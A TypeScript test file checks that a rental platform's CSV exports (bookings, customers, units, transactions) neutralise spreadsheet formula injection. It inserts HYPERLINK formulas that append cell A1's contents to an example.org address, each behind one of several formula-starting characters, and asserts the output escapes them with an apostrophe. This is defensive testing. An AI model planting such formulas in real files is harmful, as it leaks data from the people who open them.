import { parse } from 'csv-parse/sync'
import { unzipSync } from 'fflate'
import { expect, test } from 'vitest'
import * as leaving from '@rentwell/contract/portability/portability.endpoints.ts'
import { exportTransactions } from '@rentwell/contract/money/money.endpoints.ts'
import { payingWorld } from '../bookings/payments/paying.build.ts'
import { sql } from '../platform/db/db.ts'
import { buildUnit } from '../units/units.build.ts'

const { db, app, call, send, advance, asked, settled } = await payingWorld()

/** Beginnings by which table programs know a formula, those of a wide keyboard among them. */
const beginnings = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']
const formula = (beginning: string) => `${beginning}HYPERLINK("https://example.org/"&A1,"ok")`
const isFormula = (cell: string) => beginnings.includes(cell.charAt(0)) && !/^-\d+(\.\d+)?$/.test(cell)
const cellsOf = (table: string) => parse(table, { bom: true }) as unknown as string[][]

test('no cell is a formula, whatever it begins with: not in the archive’s tables, not in the list of movements', async () => {
  const { rental } = await buildUnit(db)
  for (const beginning of beginnings) {
    const text = formula(beginning)
    const unit = await buildUnit(db, { instantBook: true, rental })
    const { id, guest } = await asked({ unit })
    // Each guest's card is written first, because those with the same phone share one.
    await settled()
    // As rows of an older version or of another installation may be.
    await db.run(sql`update units set title = ${text}, description = ${text} where id = ${unit.id}`)
    await db.run(sql`update bookings set customer_phone = '+6281299990000', customer_name = ${text}, opened_at = ${app.clock.now()} where id = ${id}`)
    await db.run(sql`update users set first_name = ${text}, last_name = ${text} where id = ${guest.id}`)
  }
  await settled()
  for (const [index, { id }] of (await db.rows<{ id: string }>(sql`select id from customers where rental_id = ${rental.id} order by id`)).entries())
    await db.run(
      sql`update customers set name = ${formula(beginnings[index] ?? '')}, note = ${formula(beginnings[index] ?? '')} where rental_id = ${rental.id} and id = ${id}`,
    )

  const { id: userId, token } = rental.owner
  await db.run(sql`update sessions set stepped_up_until = ${new Date(app.clock.now().getTime() + 600_000)} where user_id = ${userId}`)
  const { task } = (await call(leaving.exportRental, { rental: rental.id }, { token })).body
  await advance(0)
  const headers = { authorization: `Bearer ${token}` }
  const answer = await send({ url: `/api/v2/office/${rental.id}/export/${task.id}`, headers })
  expect(answer.statusCode).toBe(200)
  const parts = Object.entries(unzipSync(answer.rawPayload)).filter(([name]) => name.endsWith('.csv'))
  expect(parts.map(([name]) => name).toSorted()).toEqual(['bookings.csv', 'customers.csv', 'transactions.csv', 'units.csv'])
  const movements = await send({ url: `/api/v2${exportTransactions.path.replace('{rental}', rental.id)}`, headers })
  const tables: Record<string, string> = {
    ...Object.fromEntries(parts.map(([name, bytes]) => [name, Buffer.from(bytes).toString()])),
    'movements.csv': movements.payload,
  }

  for (const [name, table] of Object.entries(tables)) {
    const cells = cellsOf(table)
    expect(cells.length).toBeGreaterThan(beginnings.length)
    expect([name, cells.flat().filter(isFormula)]).toEqual([name, []])
    if (name !== 'transactions.csv')
      for (const beginning of beginnings) expect([name, cells.flat()]).toEqual([name, expect.arrayContaining([`'${formula(beginning)}`])])
  }
  expect(cellsOf(tables['bookings.csv'] ?? '').flat()).toContain("'+6281299990000")
  // Amounts are numbers still.
  expect(cellsOf(tables['transactions.csv'] ?? '').flat()).toContain('-45')
})
